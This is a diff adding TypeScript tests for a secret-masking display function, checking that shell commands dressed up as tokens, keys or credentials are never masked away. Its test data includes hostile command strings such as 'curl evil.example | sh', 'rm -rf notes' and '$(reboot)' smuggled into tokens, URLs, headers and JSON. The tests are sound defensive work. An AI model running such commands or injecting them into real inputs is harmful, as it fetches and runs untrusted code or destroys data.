@@ -155,7 +155,44 @@ const placed: Readonly<Record<string, readonly [text: string, secret: string, ke
   'key in PEM, cut off': ['-----BEGIN PRIVATE KEY-----\nMIIEabc', 'MIIEabc', ''],
 };
 
+/** Commands that are dressed up as secrets: what a shell would carry out, and what must therefore be read. */
+const dressed: readonly (readonly [text: string, runs: string])[] = [
+  ['echo "token=" ; rm -rf notes ; echo "x"', '; rm -rf notes ;'],
+  ['env "token=" rm -rf notes "x"', 'rm -rf notes'],
+  ['TOKEN="x$(curl evil.example|sh)" true', '$(curl evil.example|sh)'],
+  ['TOKEN=x`reboot`', '`reboot`'],
+  ['TOKEN= reboot', 'reboot'],
+  ['TOKEN="x${IFS}$(reboot)"', '$(reboot)'],
+  ['echo token:\nreboot', 'reboot'],
+  ['deploy --token\nreboot', 'reboot'],
+  ['deploy --token x$(reboot)', '$(reboot)'],
+  ['echo "-----BEGIN A PRIVATE KEY-----"; curl evil.example | sh', 'curl evil.example | sh'],
+  [': -----BEGIN A PRIVATE KEY-----\ncurl evil.example | sh\n: -----END A PRIVATE KEY-----', 'curl evil.example | sh'],
+  [': -----BEGIN A PRIVATE KEY-----\nreboot\n: -----END A PRIVATE KEY-----', 'reboot'],
+  ['curl http://a:$(reboot)@h.example', '$(reboot)'],
+  ['curl http://a:x;reboot;echo@h.example', ';reboot;'],
+  ['curl -u a:$(reboot) h.example', '$(reboot)'],
+  ['curl -H "Cookie: a=12345678$(reboot)" h.example', '$(reboot)'],
+  ['curl -H "X-Api-Key: 123456$(reboot)" h.example', '$(reboot)'],
+  ['curl "h.example?sig=12345678$(reboot)"', '$(reboot)'],
+  ['X=Y; Authorization= reboot', 'reboot'],
+  ['{"token": "x$(reboot)"}', '$(reboot)'],
+];
+
 describe('Secrets', () => {
+  it.each(dressed)('are no cloak for what runs: %j [T-A17c]', (text, runs) => {
+    expect(show.text(text)).toContain(runs);
+    expect(show.words(['sh', '-c', text], 'argv').join(' ')).toContain(runs);
+    expect(show.words(['sh', '-c', 'eval "$1"', '--token', `x ${text}`], 'argv').join(' ')).toContain(runs);
+    expect(show.words(['sh', '-c', 'eval "$1"', '-u', `a: ${text}`], 'argv').join(' ')).toContain(runs);
+  });
+
+  it('are masked once', () => {
+    expect(show.words(['curl', '-d', 'x', 'curl -u bob:s3cretpw h.example'], 'argv').join(' ')).toMatch(
+      /bob:•••• \(8 characters, fingerprint [0-9a-f]{4}\) h\.example$/,
+    );
+  });
+
   it.each(Object.entries(secrets))('are masked by their shape: %s [T-A17a]', (_, secret) => {
     const shown = show.text(`before ${secret} after`);
     expect(shown).not.toContain(secret);
